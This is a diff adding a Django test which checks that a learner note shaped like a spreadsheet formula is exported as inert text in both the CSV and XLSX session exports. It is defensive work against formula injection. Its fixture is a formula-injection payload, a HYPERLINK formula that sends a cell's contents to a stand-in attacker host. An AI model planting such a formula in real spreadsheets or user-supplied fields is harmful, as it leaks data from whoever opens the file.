@@ -408,3 +408,20 @@ def test_the_roster_filters_by_domain_language_region_and_mentoring(client):
     bad = client.get(url, {"domain": "nope"})
     assert bad.status_code == 200
     assert "Correct the filters" in bad.content.decode()
+
+
+def test_a_note_that_looks_like_a_formula_stays_text_in_both_exports(client, running, staff_user):
+    session, _trainer, (ana, _bora) = running
+    formula = '=HYPERLINK("https://evil.example/?x="&B2,"Open details")'
+    ana.note = formula
+    ana.save()
+    client.force_login(staff_user)
+
+    csv_response = client.get(reverse("learning:session-export", args=[session.pk, "csv"]))
+    rows = list(csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig"))))
+    xlsx_response = client.get(reverse("learning:session-export", args=[session.pk, "xlsx"]))
+    sheet = load_workbook(io.BytesIO(xlsx_response.content)).active
+
+    assert "'" + formula in [row[-1] for row in rows]
+    (note,) = [row[-1] for row in sheet.iter_rows(min_row=2) if row[-1].value == formula]
+    assert note.data_type == "s"
